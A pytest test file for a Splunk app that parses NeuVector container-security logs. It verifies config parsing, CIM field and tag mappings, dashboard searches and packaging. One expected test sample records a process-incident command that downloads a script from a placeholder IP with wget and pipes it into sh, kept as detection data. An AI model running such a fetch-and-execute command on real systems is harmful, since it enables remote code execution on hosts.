"""The Splunk app as a Splunk admin and Enterprise Security see it.

* Every .conf parses by Splunk's rules; the generated props/transforms are
  up to date with nvparser.schema.
* CIM: each eventtype has its data-model tags; every field the app aliases,
  computes or looks up is a field of a data model its sourcetype's
  eventtypes are tagged for; the reference samples land in the right
  eventtypes and get the CIM values the reference implies (raw syslog and
  record JSON alike).
* Searches: every dashboard panel and saved search starts from the
  ``neuvector_index`` macro, no index or port is written anywhere else, and
  every macro and lookup they use exists.
* The package: no compiled Python, no exec bit outside bin/, only the SDK
  parts bin/ needs, and its modular inputs start from the package alone
  under Splunk's Python 3.9 and 3.13.
"""
import re
import subprocess
import tarfile
import xml.etree.ElementTree as ET

import pytest

import nvparser
from nvparser import schema
from helpers.nvsamples import load_samples
from helpers.splunk_package import ROOT, build_package, splunk_script
from helpers.splunkd_harness import PYTHONS
from helpers.splunk_sim import App, Eval, matches

gen_conf = splunk_script("gen_conf")
splunkconf = splunk_script("splunkconf")
APP_DIR = ROOT / "splunk_app" / "neuvector_siem"
APP = App(APP_DIR)
SAMPLES = {s.id: s for s in load_samples() if s.mode in ("text", "json", "podlog")}


def conf(name: str) -> splunkconf.Conf:
    path = APP_DIR / "default" / name
    return splunkconf.parse(path.read_text(encoding="utf-8"), str(path))


# -- configuration files --------------------------------------------------------

def test_every_conf_file_parses():
    paths = sorted((APP_DIR / "default").glob("*.conf")) + [APP_DIR / "metadata" / "default.meta"]
    assert len(paths) >= 9
    for path in paths:
        assert splunkconf.parse(path.read_text(encoding="utf-8"), str(path))


def test_generated_files_are_up_to_date():
    for name, text in gen_conf.generate().items():
        assert (APP_DIR / name).read_text(encoding="utf-8") == text, "run python splunk_app/gen_conf.py"


def test_every_sourcetype_the_inputs_write_is_declared():
    """The modular input and the HEC sink name their sourcetypes in nvsiem_splunk.records."""
    from nvsiem_splunk import records
    written = {records.DEADLETTER_SOURCETYPE, records.UNKNOWN_SOURCETYPE}
    written |= {records.sourcetype({"notification": n}) for n in schema.NOTIFICATIONS}
    assert written <= set(APP.props)


def test_app_identity_and_permissions():
    app = conf("app.conf")
    assert app["package"]["id"] == app["id"]["name"] == APP_DIR.name
    assert app["package"]["check_for_updates"] == "false"
    assert "install_source_checksum" not in app["install"]
    meta = splunkconf.parse((APP_DIR / "metadata" / "default.meta").read_text(encoding="utf-8"))
    assert "sc_admin" in meta[""]["access"]
    for exported in ("props", "transforms", "eventtypes", "tags", "lookups"):
        assert meta[exported]["export"] == "system"


def test_compliance_lookup_holds_the_shipped_checks():
    """The counts NeuVector's source gives: 921 K.*, 105 D.* (55 tagged), 5 I.* (none tagged); PCI, HIPAA, GDPR only."""
    rows = APP.lookup_rows("neuvector_compliance_tags")
    by_kind = {kind: [r for r in rows if r["test_id"].startswith(kind + ".")] for kind in "KDI"}
    assert {kind: len(found) for kind, found in by_kind.items()} == {"K": 921, "D": 105, "I": 5}
    assert len(rows) == 1031
    assert sum(1 for r in by_kind["D"] if r["regulations"]) == 55
    assert not any(r["regulations"] for r in by_kind["I"])
    assert {t for r in rows for t in r["regulations"].split("|") if t} == {"PCI", "HIPAA", "GDPR"}
    assert len({(r["test_id"], r["benchmark"]) for r in rows}) == len(rows)


# -- CIM ------------------------------------------------------------------------

# Data models: constraint tags and fields (Splunk CIM 5.x reference).
CIM = {
    "Network_Traffic": ({"network", "communicate"}, """action app bytes bytes_in bytes_out channel dest dest_interface
        dest_ip dest_mac dest_port dest_translated_ip dest_translated_port dest_zone direction duration dvc flow_id
        icmp_code icmp_type packets packets_in packets_out protocol protocol_version response_time rule session_id
        src src_interface src_ip src_mac src_port src_translated_ip src_translated_port src_zone ssid tcp_flag
        transport ttl user vendor_account vendor_product vlan"""),
    "Intrusion_Detection": ({"ids", "attack"}, """action category dest dest_ip dest_port dvc file_hash file_name
        file_path ids_type mitre_technique_id severity severity_id signature signature_id src src_ip src_port
        transport user vendor_product"""),
    "Endpoint.Processes": ({"process", "report"}, """action dest os original_file_name parent_process
        parent_process_exec parent_process_guid parent_process_id parent_process_name parent_process_path process
        process_current_directory process_exec process_guid process_hash process_id process_integrity_level
        process_name process_path user user_id vendor_product"""),
    "Endpoint.Filesystem": ({"endpoint", "filesystem"}, """action dest file_access_time file_acl file_create_time
        file_hash file_modify_time file_name file_path file_size process_guid process_id user vendor_product"""),
    "Vulnerabilities": ({"report", "vulnerability"}, """bugtraq category cert cve cvss dest dvc msft mskb severity
        severity_id signature signature_id url user vendor_product xref"""),
    "Authentication": ({"authentication"}, """action app authentication_method authentication_service dest
        duration reason response_time signature signature_id src src_user src_user_id user user_id vendor_account"""),
    "Change": ({"change"}, """action change_type command dest dvc image_id object object_attrs object_category
        object_id object_path result result_id src src_user status user vendor_account vendor_product"""),
    "Alerts": ({"alert"}, """app body description dest dest_type id mitre_technique_id severity severity_id
        signature signature_id src src_type subject type user vendor_account vendor_product"""),
}
# Splunk TA conventions beside the CIM: vendor/product, and the vendor's own
# action and severity kept when the CIM fields replace them.
TA_FIELDS = {"vendor", "product", "vendor_product", "vendor_action", "vendor_severity"}
# Fields splunk-notes §5 lists for a sourcetype beyond the models' field lists above.
NOTES_FIELDS = {"neuvector:violation": {"rule_id", "count"}, "neuvector:incident": {"signature", "signature_id"}}


def eventtype_tags():
    tags = conf("tags.conf")
    return {name: {t for t, v in tags.get("eventtype=" + name, {}).items() if v == "enabled"}
            for name in conf("eventtypes.conf")}


def models_of(tags):
    return [model for model, (constraint, _) in CIM.items() if constraint <= tags]


def test_every_eventtype_is_tagged_for_a_data_model():
    eventtypes = conf("eventtypes.conf")
    tags = eventtype_tags()
    for name in eventtypes:
        assert tags[name], name
        assert "index" not in eventtypes[name]["search"]
    for stanza in conf("tags.conf"):
        assert stanza.split("=", 1)[1] in eventtypes, stanza
    covered = {m for t in tags.values() for m in models_of(t)}
    assert covered == set(CIM)


def _mapped_fields(props: dict):
    """Fields the CIM layer of a sourcetype sets: FIELDALIAS targets, EVAL targets, LOOKUP outputs."""
    for key, value in props.items():
        if key.startswith("FIELDALIAS-"):
            yield from re.findall(r"\bAS\s+(\w+)", value)
        elif key.startswith("EVAL-"):
            yield key[5:]
        elif key.startswith("LOOKUP-"):
            outputs = re.split(r"\bOUTPUT(?:NEW)?\b", value, 1)[1]
            yield from (pair[-1] for pair in re.findall(r"(\w+)(?:\s+AS\s+(\w+))?", outputs) for pair in [
                [p for p in pair if p]])


def test_cim_fields_belong_to_the_tagged_data_models():
    eventtypes, tags = conf("eventtypes.conf"), eventtype_tags()
    for notification in schema.NOTIFICATIONS:
        sourcetype = "neuvector:" + notification
        models = {m for name, stanza in eventtypes.items() if sourcetype in stanza["search"]
                  for m in models_of(tags[name])}
        allowed = set(TA_FIELDS).union(NOTES_FIELDS.get(sourcetype, ()), *(CIM[m][1].split() for m in models))
        generated = {f.name for f in schema.FIELDS[notification]} | {"syslog_" + p for p in gen_conf.SYSLOG_PARTS}
        generated |= {"syslog_facility", "syslog_severity"}
        extra = set(_mapped_fields(APP.props[sourcetype])) - generated - allowed
        assert not extra, (sourcetype, sorted(models), sorted(extra))


# Where each reference sample belongs, and CIM values the reference implies
# (wire-format reference §5, §6; splunk-notes §5).
EXPECTED_CIM = {
    "violation-text-1": ({"neuvector_network_traffic"}, {
        "action": "allowed", "direction": "outbound", "transport": "tcp", "src": "10.42.3.17",
        "dest": "142.250.74.100", "dest_port": "443", "app": "SSL", "rule": "0", "vendor_product": "NeuVector",
        "rule_id": "0", "count": "3"}),
    "violation-text-2": ({"neuvector_network_traffic"}, {
        "action": "blocked", "direction": "lateral", "app": None, "vendor_action": "deny"}),
    "violation-text-4": ({"neuvector_network_traffic"}, {"direction": "inbound"}),
    "docs-violation-legacy": ({"neuvector_network_traffic"}, {"direction": "outbound", "transport": "tcp"}),
    "threat-text-1": ({"neuvector_ids_attack"}, {
        "action": "blocked", "severity": "critical", "vendor_severity": "Critical", "signature": "SQL.Injection",
        "signature_id": "2022", "src": "203.0.113.45", "src_port": "51544", "dest_port": "3306",
        "category": "network attack", "ids_type": "network"}),
    "threat-text-3": ({"neuvector_ids_attack"}, {"action": "allowed", "category": "dlp", "transport": "tcp"}),
    "threat-text-5": ({"neuvector_ids_attack"}, {"transport": "icmpv6", "action": "blocked"}),  # ip_proto=58
    "incident-text-1": ({"neuvector_endpoint_process"}, {
        "action": "allowed", "process_name": "wget", "user": "root", "user_id": "0",
        "process": "sh -c wget -qO- http://198.51.100.7/x.sh?arch=amd64,os=linux | sh",
        "parent_process_name": "sh", "dest": "checkout-7c5ddbdf54-q8zrn", "signature": "Process.Profile.Violation",
        "signature_id": "00000000-0000-0000-0000-000000000000"}),
    # Endpoint.Filesystem action is what was done to the file ("File was modified."), not allowed/blocked.
    "incident-text-2": ({"neuvector_endpoint_filesystem"}, {
        "file_path": "/etc/shadow", "action": "modified", "vendor_action": "violate"}),
    "incident-text-3": ({"neuvector_endpoint_process"}, {"dest": "ip-10-0-1-23", "user_id": "0"}),
    "incident-json-4": ({"neuvector_endpoint_process"}, {
        "action": "blocked", "user_id": "10001", "process": 'python3 -c print("héllo <b>&</b> naïve ☃")'}),
    "event-text-1": ({"neuvector_authentication"}, {
        "action": "success", "src": "10.42.0.15", "user": "admin", "signature": "User.Login", "app": "neuvector"}),
    "event-json-4": ({"neuvector_authentication"}, {
        "action": "failure", "src": "203.0.113.77", "reason": "User mallory login failed"}),
    "event-text-2": ({"neuvector_change"}, {
        "action": "created", "object": "response/rule", "object_category": "response", "status": "success",
        "command": "POST /v1/response/rule?scope=local", "user": "jürgen.müller@example.com"}),
    "event-json-5": ({"neuvector_change"}, {"action": "modified", "object_path": "/v1/system/config"}),
    "event-text-3": (set(), {}),
    "activity-text-1": ({"neuvector_activity"}, {}),
    "audit-text-1": ({"neuvector_vulnerability"}, {
        "severity": "critical", "dest": "shop/checkout:2.4.1", "category": "container image"}),
    "audit-text-2": ({"neuvector_vulnerability"}, {
        "cve": "CVE-2024-3094", "cvss": 10.0, "xref": "https://nvd.nist.gov/vuln/detail/CVE-2024-3094"}),
    # a "CVE in layers" message repeats CVEs of the whole-image report: not a Vulnerabilities event
    "audit-text-4": (set(), {}),
    "audit-text-8": ({"neuvector_vulnerability"}, {"severity": "informational", "dest": "ip-10-0-2-41"}),
    "audit-text-5": ({"neuvector_compliance"}, {"type": "alert", "severity": "medium"}),
    "audit-text-6": ({"neuvector_admission"}, {"type": "alert", "severity": "medium"}),
    "audit-json-7": ({"neuvector_admission"}, {
        "severity": "critical", "signature": "Admission.Control.Denied",
        "body": "<Server Dry Run> Creation of Kubernetes Deployment resource (web) is denied because of deny rule "
                "id 1001 with criteria: (count of high and critical severity CVE >= 10)."}),
}


def _forms(sample):
    """The sample as Splunk indexes it from a syslog input, and as the modular input writes it."""
    raw = APP.break_events("neuvector:syslog", sample.stream.decode("utf-8"))[0]
    sourcetype = APP.index_time_metadata("neuvector:syslog", raw)["sourcetype"]
    data = nvparser.parse_frame(raw.encode("utf-8")).data
    yield "syslog", sourcetype, raw
    yield "record", "neuvector:" + data["notification"], nvparser.json_dumps(data).decode("utf-8")


@pytest.mark.parametrize("sample_id", sorted(EXPECTED_CIM))
def test_samples_get_their_eventtypes_and_cim_values(sample_id):
    want_eventtypes, want_values = EXPECTED_CIM[sample_id]
    eventtypes = conf("eventtypes.conf")
    for form, sourcetype, raw in _forms(SAMPLES[sample_id]):
        fields = APP.search_fields(sourcetype, raw)
        got = {name for name, stanza in eventtypes.items() if matches(stanza["search"], fields)}
        assert got == want_eventtypes, form
        for name, value in want_values.items():
            got_value = (fields.get(name) or [None])[0]
            if isinstance(value, float):  # a record's JSON says 10.0 where NeuVector's text says 10
                got_value = float(got_value)
            assert got_value == value, (form, name)


def test_scan_report_gives_one_cve_value_per_cve():
    for form, sourcetype, raw in _forms(SAMPLES["audit-text-1"]):
        fields = APP.search_fields(sourcetype, raw)
        # the record's critical_vul_cnt, high_vul_cnt and medium_vul_cnt
        assert len(fields["cve"]) == len(set(fields["cve"])) == 14 + 93 + 642, form
        assert fields["cve"][:2] == ["CVE-2017-34255", "CVE-2017-38057"]
        # severity: one value per CVE, from the list the CVE came from (splunk-notes §5)
        assert fields["severity"] == ["critical"] * 14 + ["high"] * 93 + ["medium"] * 642, form


def _variant(sample_id: str, old: str, new: str) -> str:
    """The sample's first raw line with one key=value changed."""
    line = SAMPLES[sample_id].lines[0].decode("utf-8")
    assert line.count(old) == 1, old
    return line.replace(old, new)


def test_ip_protocol_58_is_icmpv6():
    fields = APP.search_fields("neuvector:violation", _variant("violation-text-1", ",ip_proto=6,", ",ip_proto=58,"))
    assert fields["transport"] == ["icmpv6"]


@pytest.mark.parametrize("name, status", [
    ("RESTful.Write", "success"), ("Crd.Import", "success"), ("Crd.Error", "failure"),
    ("Configuration.Import.Failed", "failure"), ("ConfigMap.Failed", "failure"),
    ("Admission.Control.ConfigFailed", "failure"), ("User.Resource.Access.Denied", "failure"),
    ("User.Login.Blocked", "failure"), ("User.Login.Unblocked", "success")])
def test_change_status_marks_failures(name, status):
    """Wire-format reference §6.1: Fail*, Error, Denied and Blocked names are failures."""
    fields = APP.search_fields("neuvector:event", _variant("event-text-2", ",name=RESTful.Write,", ",name=%s," % name))
    assert fields["status"] == [status]


@pytest.mark.parametrize("message, action", [
    ("File was modified.", "modified"), ("Files were modified or deleted.", "modified"),
    ("NV.Protect: Files were modified.", "modified"), ("Software packages were updated.", "modified"),
    ("Something else.", None)])
def test_file_incident_action_is_a_filesystem_action(message, action):
    fields = APP.search_fields("neuvector:incident", _variant(
        "incident-text-2", ",message=File was modified.", ",message=" + message))
    assert fields.get("action") == ([action] if action else None)
    assert fields["vendor_action"] == ["violate"]


def test_action_lookup_covers_every_policy_action():
    actions = {(r["notification"], r["vendor_action"]): r["action"] for r in APP.lookup_rows("neuvector_actions")}
    # violation policy actions (common.PolicyActionString), threat and incident actions (reference §5.3-5.5)
    for action in ("open", "learn", "allow", "violate", "check_app", "check_vh", "check_nbe"):
        assert actions[("violation", action)] == "allowed"
    assert actions[("violation", "deny")] == "blocked"
    assert {actions[("threat", a)] for a in ("deny", "reset")} == {"blocked"}
    assert {actions[("threat", a)] for a in ("alert", "allow")} == {"allowed"}
    assert {r["action"] for r in APP.lookup_rows("neuvector_actions")} <= {
        "allowed", "blocked", "success", "failure", "created", "modified", "deleted"}


def test_compliance_join_finds_regulations():
    """The neuvector_compliance_items macro's rex and lookup, on a reference compliance record."""
    definition = conf("macros.conf")["neuvector_compliance_items(1)"]["definition"]
    rex = re.search(r'rex field=items "((?:[^"\\]|\\.)*)"', definition).group(1)
    rows = APP.lookup_rows("neuvector_compliance_tags")
    fields = APP.search_fields("neuvector:audit", SAMPLES["audit-text-5"].lines[0].decode())
    found = {}
    for item in fields["items"]:
        m = APP.regex(rex).search(item)
        row = next(r for r in rows if r["test_id"] == m.group("test_id") and r["benchmark"] == "docker")
        found[m.group("test_id")] = (m.group("check_level"), row["regulations"])
    assert set(found) == {"D.5.4", "D.5.12", "D.5.25"}
    assert all(level == "WARN" for level, _ in found.values())
    assert any(regulations for _, regulations in found.values())


def test_compliance_items_keep_custom_and_unknown_checks():
    """A custom check (<group>/<name>) and an item of no known form still get a test_id."""
    definition = conf("macros.conf")["neuvector_compliance_items(1)"]["definition"]
    rex = APP.regex(re.search(r'rex field=items "((?:[^"\\]|\\.)*)"', definition).group(1))
    fill = re.search(r"\btest_id=(coalesce\(test_id, items\))", definition)
    assert fill, "test_id must fall back to the raw item"
    m = rex.search("nv.shop/no-root-login WARN - root login is allowed")
    assert (m.group("check_group"), m.group("test_id"), m.group("check_level")) == ("nv.shop", "no-root-login", "WARN")
    item = "some text NeuVector may send"
    m = rex.search(item)
    fields = {} if m is None else {k: [v] for k, v in m.groupdict().items() if v is not None}
    assert Eval(fill.group(1)).value(dict(fields, items=[item])) == [item]


# -- searches -------------------------------------------------------------------

MACROS = conf("macros.conf")
LOOKUPS = {name for name, stanza in APP.transforms.items() if "filename" in stanza}


def _macro_calls(search: str):
    for m in re.finditer(r"`([A-Za-z_]\w*)(?:\(([^`]*)\))?`", search):
        args = [] if m.group(2) is None else [a for a in re.split(r",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", m.group(2))]
        yield m.group(1), len(args)


def _uses_index_macro(search: str, depth: int = 0) -> bool:
    assert depth < 10, "macro recursion"
    for name, argc in _macro_calls(search):
        key = name if argc == 0 else "%s(%d)" % (name, argc)
        assert key in MACROS, "unknown macro %s" % key
        if name == "neuvector_index" or _uses_index_macro(MACROS[key]["definition"], depth + 1):
            return True
    return False


def _lookups_used(search: str):
    return re.findall(r"\b(?:lookup|inputlookup)\s+(\w+)", search)


def dashboard_queries():
    for path in sorted((APP_DIR / "data" / "ui" / "views").glob("*.xml")):
        root = ET.parse(path).getroot()
        assert root.get("version") == "1.1", path.name
        for query in root.iter("query"):
            yield path.name, query.text.strip()


def test_dashboards_cover_the_console_pages():
    views = {p.stem for p in (APP_DIR / "data" / "ui" / "views").glob("*.xml")}
    nav = ET.parse(APP_DIR / "data" / "ui" / "nav" / "default.xml").getroot()
    assert {v.get("name") for v in nav.iter("view")} - {"search"} == views
    assert {"neuvector_overview", "neuvector_network", "neuvector_vulnerabilities", "neuvector_admission",
            "neuvector_compliance", "neuvector_access"} <= views


def test_every_search_starts_from_the_index_macro():
    searches = list(dashboard_queries())
    searches += [("savedsearches.conf " + n, s["search"]) for n, s in conf("savedsearches.conf").items()]
    assert len(searches) > 30
    for where, search in searches:
        if search.startswith("| inputlookup"):
            continue  # reads the app's own lookup, no index involved
        assert _uses_index_macro(search), where
        for lookup in _lookups_used(search):
            assert lookup in LOOKUPS, (where, lookup)


def test_no_index_or_port_is_hard_coded():
    texts = [(p.name, p.read_text(encoding="utf-8")) for p in (APP_DIR / "data" / "ui" / "views").glob("*.xml")]
    texts += [(n, (APP_DIR / "default" / n).read_text(encoding="utf-8"))
              for n in ("savedsearches.conf", "eventtypes.conf")]
    texts += [("macros.conf " + n, s["definition"]) for n, s in MACROS.items() if n != "neuvector_index"]
    for where, text in texts:
        assert not re.search(r"\bindex\s*=", text), where
        assert not re.search(r"source\s*=\s*\"?(?:tcp|udp):", text), where


def test_macros_and_lookups_used_by_macros_exist():
    for name, stanza in MACROS.items():
        _uses_index_macro(stanza["definition"])  # asserts every macro it calls exists
        argc = int(re.search(r"\((\d+)\)$", name).group(1)) if name.endswith(")") else 0
        assert len(stanza.get("args", "").split(",")) == argc if argc else "args" not in stanza, name
        for lookup in _lookups_used(stanza["definition"]):
            assert lookup in LOOKUPS, (name, lookup)
    for props in APP.props.values():
        for key, value in props.items():
            if key.startswith("LOOKUP-"):
                assert value.split()[0] in LOOKUPS, key


def test_official_app_bugs_stay_fixed():
    """splunk-notes §1: logins counted by host, no critical CVEs, egress filter unlike its drilldown."""
    queries = dict()
    for view, query in dashboard_queries():
        queries.setdefault(view, []).append(query)
    access = " ".join(queries["neuvector_access.xml"])
    assert "user_addr" in access and not re.search(r"\b(?:by|dc\()\s*host\b", access)
    vulns = " ".join(queries["neuvector_vulnerabilities.xml"])
    assert "critical" in vulns and "sort - Total" not in vulns
    network = queries["neuvector_network.xml"]
    directions = [re.findall(r'direction="(\w+|\$direction\$)"', q) for q in network]
    assert sorted(d for found in directions for d in found) == sorted(
        ["outbound", "inbound", "lateral", "$direction$"])
    assert not any("server_id=" in q or "server_name=external" in q for q in network)


def _query(view: str, title: str) -> str:
    root = ET.parse(APP_DIR / "data" / "ui" / "views" / view).getroot()
    panel = next(p for p in root.iter() if p.findtext("title") == title)
    return next(panel.iter("query")).text.strip()


def test_logins_by_user_counts_only_failed_and_blocked_logins():
    """User.Login.Unblocked is an admin unblocking a user (Info), not a failure (reference §6.1)."""
    query = _query("neuvector_access.xml", "Logins by user")
    failures = dict((n, e) for e, n in re.findall(r"count\(eval\((.*?)\)\) as (\w+)", query))["failures"]
    for name in ("User.Login", "User.Login.Unblocked", "User.Logout", "User.Login.Failed", "User.Login.Blocked"):
        assert Eval(failures).value({"name": [name]}) == (
            ["true"] if name in ("User.Login.Failed", "User.Login.Blocked") else ["false"]), name


# Fields a dashboard groups by that an event may lack, beside the schema's
# omitempty, list and map fields: lookups and evals that can give nothing.
DERIVED_OPTIONAL = {"app", "transport", "object", "image", "test_id", "check_level", "check_description"}
# Every record of the sourcetypes grouped by name has one (only violations lack it).
ALWAYS_PRESENT = {"name"}


def _expand_macros(search: str) -> str:
    def one(m):
        key = m.group(1) if m.group(2) is None else "%s(%d)" % (m.group(1), len(m.group(2).split(",")))
        return MACROS[key]["definition"] if key != "neuvector_index" else m.group(0)
    return re.sub(r"`([A-Za-z_]\w*)(?:\(([^`]*)\))?`", one, search)


def _optional_fields(search: str):
    notifications = re.findall(r'sourcetype="neuvector:(\w+)"', search) or schema.NOTIFICATIONS
    optional = set(DERIVED_OPTIONAL)
    for n in notifications:
        optional |= {f.name for f in schema.FIELDS.get(n, ()) if f.omitempty or f.type in ("list", "map")}
    return optional - ALWAYS_PRESENT


def test_dashboards_fill_optional_group_by_fields():
    """stats/chart/timechart drop events whose by-field is null: fill optional ones first."""
    checked = 0
    for view, query in dashboard_queries():
        search = _expand_macros(query)
        optional = _optional_fields(search)
        for m in re.finditer(r"\|\s*(?:stats|chart|timechart)\b([^|]*)", search):
            groups = re.findall(r"\bover\s+(\w+)", m.group(1))
            by = re.search(r"\bby\s+((?:\w+\s*)+)$", m.group(1))
            groups += by.group(1).split() if by else []
            before = search[:m.start()]
            for field in set(groups) & optional:
                checked += 1
                filled = re.search(r"\bfillnull\b[^|]*\s%s\b" % field, before) or re.search(
                    r"[\s,]%s=coalesce\(" % field, before)
                assert filled, (view, field, query)
    assert checked >= 10


def test_regulation_choices_have_tagged_checks():
    """compliance-tags.md: no shipped check carries NIST, PCIv4 or DISA; a choice for them finds nothing."""
    tagged = {r for row in APP.lookup_rows("neuvector_compliance_tags") for r in row["regulations"].split("|") if r}
    root = ET.parse(APP_DIR / "data" / "ui" / "views" / "neuvector_compliance.xml").getroot()
    choices = [c.get("value") for i in root.iter("input") if i.get("token") == "regulation" for c in i.iter("choice")]
    regulations = [re.fullmatch(r'regulations="(\w+)"', v).group(1) for v in choices if v != "*"]
    assert regulations and set(regulations) <= tagged


# -- the package ----------------------------------------------------------------

@pytest.fixture(scope="module")
def package(tmp_path_factory):
    return build_package(tmp_path_factory.mktemp("dist"))


def test_package_layout_and_modes(package):
    assert package.name == "neuvector_siem-%s.tgz" % conf("app.conf")["id"]["version"]
    with tarfile.open(package) as tar:
        members = tar.getmembers()
    names = [m.name for m in members]
    assert all(n == APP_DIR.name or n.startswith(APP_DIR.name + "/") for n in names)
    for m in members:
        assert not m.name.endswith((".pyc", ".pyo")) and "__pycache__" not in m.name
        assert "/local/" not in m.name and not m.name.endswith("local.meta")
        if m.isfile():
            in_bin = m.name.split("/")[1] == "bin"
            assert m.mode & 0o111 == (0o111 if in_bin else 0), (m.name, oct(m.mode))
            assert m.uid == m.gid == 0
    lib = {n.split("/lib/", 1)[1] for n in names if "/lib/" in n}
    assert {"nvparser/__init__.py", "nvparser/schema.py", "splunklib/__init__.py",
            "splunklib/modularinput/script.py"} <= lib
    assert not any(n.startswith("splunklib/searchcommands") for n in lib)
    # no compiled code (AppInspect flags binaries): the parser's C accelerator stays out
    assert not [n for n in lib if n.startswith("nvparser/") and not n.endswith(".py")]
    assert any(n.startswith("splunk_sdk-") and n.endswith("licenses/LICENSE") for n in lib)


def test_package_is_reproducible(package, tmp_path):
    assert build_package(tmp_path).read_bytes() == package.read_bytes()


@pytest.mark.parametrize("version", sorted(PYTHONS))
def test_modular_inputs_start_from_the_package_alone(package, tmp_path, version):
    """What splunkd does first: run each bin/ script with --scheme, with only the app's own files."""
    if not PYTHONS[version]:
        pytest.skip("Python %s is not installed (pyenv install %s)" % (version, version))
    with tarfile.open(package) as tar:
        tar.extractall(tmp_path)
    scripts = sorted((tmp_path / APP_DIR.name / "bin").glob("*.py"))
    assert scripts
    for script in scripts:
        done = subprocess.run([PYTHONS[version], "-I", "-S", str(script), "--scheme"], capture_output=True,
                              text=True, timeout=60, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        assert ET.fromstring(done.stdout).tag == "scheme"
